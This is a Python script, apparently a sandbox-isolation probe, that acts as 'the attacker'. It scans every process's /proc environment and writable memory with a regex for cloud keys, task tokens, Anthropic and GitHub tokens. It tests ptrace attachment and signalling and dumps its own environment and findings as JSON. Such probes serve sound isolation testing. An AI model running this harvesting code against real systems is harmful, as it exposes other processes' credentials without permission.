"""The attacker looks into every process it sees: environment, memory, open files, ptrace, signals. Prints JSON."""

import contextlib
import ctypes
import json
import os
import re
import sys
from pathlib import Path

SECRETS = re.compile(
    rb"(?:AWS_SECRET\w*|AWS_SESSION\w*|TASK_TOKEN|SITEWRIGHT_TASK\w*|\w*API_KEY|AWS_CONTAINER\w*|ECS_CONTAINER\w*)=[^\0\n]{1,300}"
    rb"|sk-ant-[\w-]{8,}|github_pat_\w+"
)
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
libc = ctypes.CDLL(None, use_errno=True)


def opened(pid: int) -> list[str]:
    """The names of what can be read of a process."""
    names = []
    for name in ("environ", "maps", "io", "auxv"):
        with contextlib.suppress(OSError):
            (Path(f"/proc/{pid}") / name).read_bytes()
            names.append(name)
    with contextlib.suppress(OSError):
        os.close(os.open(f"/proc/{pid}/mem", os.O_RDONLY))
        names.append("mem")
    for name in ("fd", "map_files"):
        with contextlib.suppress(OSError):
            os.listdir(f"/proc/{pid}/{name}")  # noqa: PTH208 - the attacker is in a hurry
            names.append(name)
    for name in ("cwd", "root", "exe"):
        with contextlib.suppress(OSError):
            os.readlink(f"/proc/{pid}/{name}")  # noqa: PTH115
            names.append(name)
    return names


def hits(pid: int) -> list[str]:
    """What looks like a secret in a process' environment and memory."""
    found = set()
    with contextlib.suppress(OSError):
        found |= set(SECRETS.findall(Path(f"/proc/{pid}/environ").read_bytes()))
    with contextlib.suppress(OSError, ValueError):
        lines = Path(f"/proc/{pid}/maps").read_text().splitlines()
        memory = os.open(f"/proc/{pid}/mem", os.O_RDONLY)
        for line in lines:
            span, rights, *_ = line.split()
            start, end = (int(part, 16) for part in span.split("-"))
            if rights.startswith("rw") and end - start < 64 << 20:
                with contextlib.suppress(OSError):
                    found |= set(SECRETS.findall(os.pread(memory, end - start, start)))
        os.close(memory)
    return sorted(text.decode(errors="replace") for text in found)


def can(call: object, *arguments: object) -> bool:
    try:
        call(*arguments)  # type: ignore[operator]
    except OSError:
        return False
    return True


def seized(pid: int) -> bool:
    if libc.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        return False
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return True


processes = []
for entry in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):  # noqa: PTH208
    if entry == os.getpid():
        continue
    with contextlib.suppress(OSError):
        uid = Path(f"/proc/{entry}").stat().st_uid
        status = Path(f"/proc/{entry}/status").read_text()
        processes.append(
            {
                "pid": entry,
                "uid": int(re.findall(r"^Uid:\s+(\d+)", status, re.MULTILINE)[0]),
                "owner": uid,
                "command": Path(f"/proc/{entry}/cmdline")
                .read_bytes()
                .replace(b"\0", b" ")
                .decode(errors="replace")[:200],
                "opened": opened(entry),
                "hits": hits(entry),
                "signals": can(os.kill, entry, 0),
                "seized": entry != os.getppid() and seized(entry),
            }
        )
own = dict(line.split(":\t", 1) for line in Path("/proc/self/status").read_text().splitlines() if ":\t" in line)
json.dump(
    {
        "uid": os.getuid(),
        "groups": os.getgroups(),
        "capabilities": {name: own[name].strip() for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")},
        "noNewPrivileges": own["NoNewPrivs"].strip(),
        "environment": dict(os.environ),
        "processes": processes,
    },
    sys.stdout,
)
